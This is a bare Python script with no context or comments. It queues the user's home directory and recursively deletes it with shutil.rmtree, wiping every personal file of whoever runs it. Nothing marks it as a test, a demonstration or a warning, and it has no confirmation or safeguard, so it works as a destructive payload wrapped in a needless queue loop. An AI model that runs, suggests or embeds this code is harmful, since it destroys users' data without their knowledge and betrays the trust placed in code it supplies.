import os
import shutil
from collections import deque

work = deque()
work.appendleft(os.path.expanduser("~"))
while work:
    shutil.rmtree(work.popleft())
